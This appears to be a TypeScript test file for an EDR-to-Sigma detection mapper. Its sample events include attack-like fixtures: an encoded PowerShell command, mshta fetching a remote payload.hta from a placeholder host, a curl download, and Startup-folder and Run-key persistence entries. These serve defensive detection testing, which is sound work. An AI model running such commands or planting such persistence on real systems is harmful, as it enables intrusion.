// Vigil's canonical EDR events as a Sigma log source: 8001 process, 8003 file, 8005/8006 registry and
// 8007 network events get Sigma's field names and values, and meet only the rules whose log source
// can describe them.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { edrSigmaEvent, fieldViewOf, SigmaEngine } from '../../../src/detect/sigma/index.ts';
import { rule } from './helpers.ts';

const LAUNCH = {
  type_id: 8001,
  operation: 1,
  device_name: 'WIN-TFB8L7BI77H',
  device_ip: '192.0.2.15',
  user_name: 'alice',
  user_domain: 'CORP',
  event_actor: { pid: 4242, uid: 'A-1', cmd_line: 'C:\\Windows\\explorer.exe', file: { path: 'C:\\Windows\\explorer.exe' }, user: { name: 'CORP\\alice' } },
  process: {
    pid: 5150,
    uid: 'P-1',
    cmd_line: 'powershell.exe -NoProfile -enc SQBFAFgA',
    integrity_id: 3,
    file: {
      path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      original_name: 'PowerShell.EXE',
      sha2: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
      md5: '7353f60b1739074eb17c5f4dddefe239',
    },
  },
};

const OUTBOUND = {
  type_id: 8007,
  device_name: 'WIN-TFB8L7BI77H',
  device_ip: '192.0.2.15',
  internal_port: 49822,
  external_ip: '203.0.113.80',
  external_port: 443,
  traffic_direction: 2,
  network_protocol: 2,
  data_source_url: 'https://updates.example.net/x/payload.hta',
  event_actor: { pid: 777, cmd_line: 'mshta.exe https://updates.example.net/x/payload.hta', file: { folder: 'C:\\Windows\\System32', name: 'mshta.exe' } },
};

function fields(event: Record<string, unknown>, names: string[]): Record<string, unknown> {
  const view = edrSigmaEvent(event)!.view;
  return Object.fromEntries(names.map((name) => [name, view.get(name)]));
}

test('a process launch (8001, operation 1) is a Windows process_creation with Sysmon field names and values', () => {
  const shaped = edrSigmaEvent(LAUNCH)!;
  assert.deepEqual(shaped.logsources, [{ product: 'windows', category: 'process_creation' }]);
  assert.deepEqual(fields(LAUNCH, [
    'Image', 'OriginalFileName', 'CommandLine', 'ProcessId', 'ProcessGuid', 'IntegrityLevel', 'User', 'Hashes',
    'ParentImage', 'ParentCommandLine', 'ParentProcessId', 'ParentProcessGuid', 'ParentUser', 'Computer',
  ]), {
    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    OriginalFileName: 'PowerShell.EXE',
    CommandLine: 'powershell.exe -NoProfile -enc SQBFAFgA',
    ProcessId: 5150,
    ProcessGuid: 'P-1',
    IntegrityLevel: 'Medium',
    // The launched process names no user of its own: the event's user, with its domain.
    User: 'CORP\\alice',
    Hashes: 'MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C',
    ParentImage: 'C:\\Windows\\explorer.exe',
    ParentCommandLine: 'C:\\Windows\\explorer.exe',
    ParentProcessId: 4242,
    ParentProcessGuid: 'A-1',
    ParentUser: 'CORP\\alice',
    Computer: 'WIN-TFB8L7BI77H',
  });
  // The EDR's own names stay reachable, top level and dotted.
  const view = shaped.view;
  assert.equal(view.get('device_ip'), '192.0.2.15');
  assert.equal(view.get('process.file.sha2'), LAUNCH.process.file.sha2);
  assert.deepEqual(view.texts('commandline')?.map(({ text }) => text), [LAUNCH.process.cmd_line]);
});

test('the operation decides the category: launch, termination, or none', () => {
  const category = (event: Record<string, unknown>) => edrSigmaEvent(event)?.logsources.map((source) => source.category);
  assert.deepEqual(category({ ...LAUNCH, operation: 2 }), ['process_termination']);
  assert.deepEqual(category({ ...LAUNCH, operation: '1: Launch' }), ['process_creation']);
  const { operation: _operation, ...withoutOperation } = LAUNCH;
  assert.deepEqual(category(withoutOperation), ['process_creation']);
  assert.deepEqual(category({ ...withoutOperation, event_id: 8001002 }), ['process_termination'], 'the event_id 8001002 says terminate');
  assert.deepEqual(category({ ...withoutOperation, enriched_data: { rule_name: 'eProcessClose' } }), ['process_termination']);
  assert.equal(edrSigmaEvent({ ...LAUNCH, operation: 9 }), undefined, 'an operation without Sigma meaning has no log source');
  assert.equal(edrSigmaEvent({ ...LAUNCH, type_id: 4124 }), undefined, 'detections are not telemetry');
  assert.equal(edrSigmaEvent({ ...LAUNCH, type_id: '8001: Process Events' })?.logsources[0].category, 'process_creation');
});

test('the cloud schema\'s `actor`, paths from folder and name, and the endpoint\'s OS as product', () => {
  const { event_actor: actor, ...cloud } = LAUNCH;
  assert.equal(fields({ ...cloud, actor }, ['ParentImage']).ParentImage, 'C:\\Windows\\explorer.exe');
  const folderAndName = { ...LAUNCH, process: { cmd_line: 'x', file: { folder: 'C:\\Tools\\', name: 'procdump64.exe' } } };
  assert.equal(fields(folderAndName, ['Image']).Image, 'C:\\Tools\\procdump64.exe');
  const linux = { ...LAUNCH, device_os_name: 'Ubuntu Linux 22.04', process: { cmd_line: 'curl -o /tmp/x http://a', file: { path: '/usr/bin/curl' } } };
  assert.deepEqual(edrSigmaEvent(linux)!.logsources, [{ product: 'linux', category: 'process_creation' }]);
  assert.equal(edrSigmaEvent({ ...LAUNCH, device_os_name: 'Windows 10 Enterprise' })!.logsources[0].product, 'windows');
});

test('a network event (8007) is a network_connection, initiator first, as Sysmon writes it', () => {
  const shaped = edrSigmaEvent(OUTBOUND)!;
  assert.deepEqual(shaped.logsources, [{ product: 'windows', category: 'network_connection' }]);
  const names = ['Image', 'CommandLine', 'ProcessId', 'Initiated', 'Protocol', 'SourceIp', 'SourcePort', 'SourceHostname', 'SourceIsIpv6',
    'DestinationIp', 'DestinationPort', 'DestinationHostname', 'DestinationIsIpv6'];
  assert.deepEqual(fields(OUTBOUND, names), {
    Image: 'C:\\Windows\\System32\\mshta.exe',
    CommandLine: OUTBOUND.event_actor.cmd_line,
    ProcessId: 777,
    Initiated: 'true',
    Protocol: 'tcp',
    SourceIp: '192.0.2.15',
    SourcePort: 49822,
    SourceHostname: 'WIN-TFB8L7BI77H',
    SourceIsIpv6: 'false',
    DestinationIp: '203.0.113.80',
    DestinationPort: 443,
    DestinationHostname: 'updates.example.net',
    DestinationIsIpv6: 'false',
  });
  const inbound = fields({ ...OUTBOUND, traffic_direction: 1, external_ip: '2001:db8::7', network_protocol: 3 }, ['Initiated', 'Protocol', 'SourceIp', 'SourceIsIpv6', 'DestinationIp', 'DestinationPort']);
  assert.deepEqual(inbound, { Initiated: 'false', Protocol: 'udp', SourceIp: '2001:db8::7', SourceIsIpv6: 'true', DestinationIp: '192.0.2.15', DestinationPort: 49822 });
  assert.equal(fields({ ...OUTBOUND, traffic_direction: undefined }, ['Initiated']).Initiated, undefined, 'an unknown direction claims nothing');
});

test('file (8003) and registry (8005, 8006) events', () => {
  const file = { type_id: 8003, operation: 1, device_name: 'W1', file: { path: 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\run.vbs' }, event_actor: { pid: 9, file: { path: 'C:\\Windows\\System32\\wscript.exe' } } };
  assert.deepEqual(edrSigmaEvent(file)!.logsources, [{ product: 'windows', category: 'file_event' }]);
  assert.deepEqual(fields(file, ['TargetFilename', 'Image', 'ProcessId']), { TargetFilename: file.file.path, Image: 'C:\\Windows\\System32\\wscript.exe', ProcessId: 9 });
  assert.deepEqual(edrSigmaEvent({ ...file, operation: 2 })!.logsources, [{ product: 'windows', category: 'file_delete' }]);
  assert.deepEqual(edrSigmaEvent({ ...file, event_id: 8003002, operation: undefined })!.logsources, [{ product: 'windows', category: 'file_delete' }]);

  const value = { type_id: 8006, operation: 1, reg_value: { path: 'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', data: 1 }, event_actor: { file: { path: 'C:\\x.exe' } } };
  assert.deepEqual(edrSigmaEvent(value)!.logsources.map((source) => source.category), ['registry_set', 'registry_event']);
  assert.deepEqual(fields(value, ['TargetObject', 'Details', 'EventType', 'Image']), {
    TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'DWORD (0x00000001)', EventType: 'SetValue', Image: 'C:\\x.exe',
  });
  const named = { ...value, reg_key: { path: '\\REGISTRY\\USER\\S-1-5-21-1\\Software\\Classes' }, reg_value: { name: 'shell', data: 'cmd.exe' } };
  assert.deepEqual(fields(named, ['TargetObject', 'Details']), { TargetObject: 'HKU\\S-1-5-21-1\\Software\\Classes\\shell', Details: 'cmd.exe' });
  assert.deepEqual(edrSigmaEvent({ ...value, operation: 2 })!.logsources.map((source) => source.category), ['registry_delete', 'registry_event']);
  const key = { type_id: 8005, operation: 1, reg_key: { path: 'HKEY_USERS\\S-1-5-21-1\\Software\\Evil' } };
  assert.deepEqual(fields(key, ['TargetObject', 'EventType']), { TargetObject: 'HKU\\S-1-5-21-1\\Software\\Evil', EventType: 'CreateKey' });
  assert.deepEqual(edrSigmaEvent(key)!.logsources.map((source) => source.category), ['registry_add', 'registry_event']);
});

test('rules meet EDR events only through a log source that describes them', () => {
  const powershellRule = (logsource: string) => rule(`title: '${logsource}'\nlogsource: ${logsource}\ndetection:\n    s:\n        Image|endswith: '\\powershell.exe'\n    condition: s\n`);
  const engine = new SigmaEngine([
    powershellRule('{product: windows, category: process_creation}'),
    powershellRule('{category: process_creation}'),
    powershellRule('{product: windows}'),
    powershellRule('{product: windows, category: process_creation, service: sysmon}'),
    powershellRule('{product: windows, service: security}'),
    powershellRule('{product: windows, category: network_connection}'),
    powershellRule('{product: windows, category: process_termination}'),
    powershellRule('{product: linux, category: process_creation}'),
  ]);
  const titles = (event: Record<string, unknown>) => engine.match(event).map((matched) => matched.title).sort();
  assert.deepEqual(titles(LAUNCH), ['{category: process_creation}', '{product: windows, category: process_creation}', '{product: windows}']);
  assert.deepEqual(titles({ ...LAUNCH, operation: 2 }), ['{product: windows, category: process_termination}', '{product: windows}']);
  // A sender's Windows-looking fields do not make an EDR event a Sysmon or Security record.
  assert.deepEqual(titles({ ...LAUNCH, Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1 }), titles(LAUNCH));
  assert.equal(fieldViewOf({ ...LAUNCH, Channel: 'Security' }).get('Channel'), undefined);
  const powershellConnects = { ...OUTBOUND, event_actor: { file: { path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' } } };
  assert.deepEqual(titles(powershellConnects), ['{product: windows, category: network_connection}', '{product: windows}']);
  assert.deepEqual(titles({ ...LAUNCH, device_os_name: 'CentOS Linux 7' }), ['{category: process_creation}', '{product: linux, category: process_creation}']);
});
